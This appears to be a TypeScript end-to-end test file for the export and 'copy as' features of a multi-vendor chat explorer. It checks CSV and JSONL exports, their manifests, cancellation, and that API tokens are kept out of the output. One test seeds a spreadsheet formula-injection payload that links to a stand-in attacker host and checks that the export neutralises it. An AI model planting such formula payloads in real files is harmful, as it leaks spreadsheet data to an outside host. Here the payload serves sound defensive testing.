import { createHash } from "node:crypto";
import { readFile } from "node:fs/promises";
import type { Download } from "playwright-core";
import { describe, expect, it } from "vitest";
import type { Manifest } from "../web/export/manifest.ts";
import { useExplorer } from "./explorer.ts";

const explorer = useExplorer({ chats: 300 });

const dialog = () => explorer.page.getByRole("dialog");

/** Reads RFC 4180, with nothing of what wrote it. */
function parseCsv(text: string): string[][] {
  const fields = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  const lines: string[][] = [[]];
  for (const [, field = "", end] of text.matchAll(fields)) {
    lines.at(-1)?.push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field);
    if (end === "\r\n") lines.push([]);
    if (end === "") break;
  }
  return lines.slice(0, -1);
}

async function read(download: Download | undefined): Promise<string> {
  return readFile((await download?.path()) ?? "", "utf8");
}

/** Exports what is shown by the keyboard's key, as a download; returns the file and its manifest. */
async function exportShown(format: "CSV" | "JSONL"): Promise<{ text: string; manifest: Manifest; file: string }> {
  const { page } = explorer;
  const downloads: Download[] = [];
  page.on("download", (download) => downloads.push(download));
  await page.evaluate(() => Reflect.deleteProperty(Window.prototype, "showSaveFilePicker"));
  await page.evaluate(() => Reflect.deleteProperty(window, "showSaveFilePicker"));
  await page.keyboard.press("e");
  await dialog().getByRole("radio", { name: format }).check();
  await dialog().getByRole("button", { name: "Export", exact: true }).click();
  await dialog().getByText("SHA-256").waitFor();
  await expect.poll(() => downloads.length).toBe(2);
  const file = downloads.find((download) => !download.suggestedFilename().endsWith(".manifest.json"));
  const manifest = JSON.parse(await read(downloads.find((download) => download !== file))) as Manifest;
  return { text: await read(file), manifest, file: file?.suggestedFilename() ?? "" };
}

/** Loads all that is listed; returns the identifiers of the rows. */
async function loadAll(): Promise<string[]> {
  const more = explorer.page.getByRole("button", { name: "Load more" });
  while (await more.isVisible()) {
    await more.click();
    await explorer.settled();
  }
  return explorer.ids();
}

describe("an export", () => {
  it("is what the list shows, with the filters of the list, and its manifest tells which", async () => {
    const query = "?vendor=invent&state=CLOSED";
    await explorer.open(query);
    const { text, manifest, file } = await exportShown("CSV");
    await dialog().getByRole("button", { name: "Done" }).click();
    const listed = await loadAll();
    const [head, ...lines] = parseCsv(text);
    expect(head?.slice(0, 3)).toEqual(["Id", "Title", "Customer"]);
    expect(lines.map(([id]) => id).toSorted()).toEqual(listed.toSorted());
    expect(listed.length).toBeGreaterThan(40);
    expect(lines.every((line) => line[head?.indexOf("State") ?? -1] === "Closed")).toBe(true);
    expect(file).toMatch(/^invent-chats-\d{4}-\d\d-\d\d-\d{4}\.csv$/);
    expect(manifest).toMatchObject({
      file,
      format: "csv",
      view: "Invent",
      address: query,
      filters: { org_id: "c", state: "CLOSED" },
      rows: listed.length,
      bytes: Buffer.byteLength(text),
      sha256: createHash("sha256").update(text).digest("hex"),
      complete: true,
      walks: [{ vendor: "invent", complete: true, items: listed.length }],
    });
  });

  it("loses nothing while the list changes, and makes formulas harmless", async () => {
    const { emulator, demo, page } = explorer;
    const evil = '=HYPERLINK("https://evil.example?"&A1,"Refund, now")';
    await explorer.open("?vendor=cargo");
    const json = { "content-type": "application/json" };
    const body = JSON.stringify({ name: evil, trigger: { type: "app" } });
    await fetch(`${demo.url}api/cargo/ai/chats`, { method: "POST", headers: json, body });
    const before = emulator.state.cargo.chats.map(({ uuid }) => uuid);
    emulator.dials.cargo.listChats = { churn: { inserts: 2, updates: 2, deletes: 3 } };
    const { text, manifest } = await exportShown("CSV");
    const lines = parseCsv(text);
    const exported = new Set(lines.map(([id]) => id));
    const stayed = new Set(emulator.state.cargo.chats.map(({ uuid }) => uuid));
    expect(before.filter((id) => stayed.has(id) && !exported.has(id))).toEqual([]);
    expect(exported.size).toBe(lines.length);
    expect(manifest.complete).toBe(true);
    expect(lines.find(([, title]) => title?.includes("HYPERLINK"))?.[1]).toBe(`'${evil}`);
    await dialog().getByRole("button", { name: "Done" }).click();
    expect(await page.evaluate(() => document.querySelector("dialog"))).toBeNull();
  });

  it("of all vendors has every chat as its vendor sent it, without secrets", async () => {
    const { emulator } = explorer;
    await explorer.open("");
    const { text, manifest } = await exportShown("JSONL");
    const chats = text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as { vendor: string; chat: Record<string, string> });
    const idsOf = (vendor: string, key: string) =>
      chats.filter((each) => each.vendor === vendor).map(({ chat }) => chat[key]);
    const { cargo, cotool, invent } = emulator.state;
    expect(idsOf("cargo", "uuid").toSorted()).toEqual(cargo.chats.map(({ uuid }) => uuid).toSorted());
    expect(idsOf("invent", "id").toSorted()).toEqual(invent.chats.map(({ id }) => id).toSorted());
    const inCotool = cotool.agents.flatMap(({ agentId }) => cotool.chatsOf(agentId) ?? []);
    expect(idsOf("cotool", "id").toSorted()).toEqual(inCotool.map(({ id }) => id).toSorted());
    expect(manifest).toMatchObject({ rows: chats.length, complete: true, leftOut: [] });
    expect(manifest.walks.map(({ vendor }) => vendor)).toHaveLength(2 + cotool.agents.length);
    expect(text).not.toContain(emulator.token);
  });

  it("goes where the reader says as it comes, and leaves nothing where it is cancelled", async () => {
    const { emulator, page } = explorer;
    await explorer.open("?vendor=invent");
    // The dialog of the browser cannot be answered here; the file that it would give is a real one.
    await page.evaluate(() => {
      Object.assign(window, {
        async showSaveFilePicker({ suggestedName }: { suggestedName: string }) {
          const root = await navigator.storage.getDirectory();
          Object.assign(window, { picked: suggestedName });
          return root.getFileHandle("picked", { create: true });
        },
      });
    });
    const size = () =>
      page.evaluate(async () => {
        const root = await navigator.storage.getDirectory();
        return (await (await root.getFileHandle("picked")).getFile()).size;
      });
    emulator.dials.invent.listOrgChats = { latencyMs: 200 };
    await page.keyboard.press("e");
    await dialog().getByRole("button", { name: "Export", exact: true }).click();
    await dialog().getByRole("progressbar", { name: "Exporting" }).waitFor();
    await dialog().getByRole("button", { name: "Cancel" }).click();
    await dialog().getByRole("button", { name: "Export", exact: true }).waitFor();
    emulator.dials.invent.listOrgChats = {};
    expect(await size()).toBe(0);
    await dialog().getByRole("button", { name: "Export", exact: true }).click();
    await dialog().getByText("300 chats").waitFor();
    expect(await size()).toBeGreaterThan(10_000);
  });

  it("that fails says why, and can be made again", async () => {
    const { page, emulator } = explorer;
    await explorer.open("?vendor=invent");
    await page.evaluate(() => Reflect.deleteProperty(window, "showSaveFilePicker"));
    emulator.faults.invent.listOrgChats = [{ kind: "html" }];
    await page.keyboard.press("e");
    await dialog().getByRole("button", { name: "Export", exact: true }).click();
    await dialog().getByRole("alert").getByText("a page of HTML").waitFor();
    await dialog().getByRole("button", { name: "Export", exact: true }).click();
    await dialog().getByText("300 chats").waitFor();
  });
});

describe("copy as", () => {
  it("copies the link, the program and the cURL of the view", async () => {
    const { page } = explorer;
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await explorer.open("?vendor=cargo&name=it%27s&messageStatuses=error");
    await page.getByRole("button", { name: "Copy as" }).click();
    const copy = async (name: RegExp) => {
      await page.getByRole("button", { name }).click();
      await page.getByText("copied", { exact: true }).waitFor();
      const status = page.locator(".copy-menu [role=status]");
      await expect.poll(() => status.textContent()).toMatch(name);
      return page.evaluate(() => navigator.clipboard.readText());
    };
    expect(await copy(/^Link/)).toBe(page.url());
    expect(await copy(/^TypeScript/)).toContain(
      `cargo.chats.list({ name: "it's", messageStatuses: ["error"] }).walk()`,
    );
    const curl = await copy(/^cURL/);
    expect(curl).toContain("https://api.getcargo.io/v1/ai/chats/list?");
    expect(curl).toContain('"Authorization: Bearer $CARGO_API_TOKEN"');
    expect(curl).not.toContain(explorer.emulator.token);
  });
});
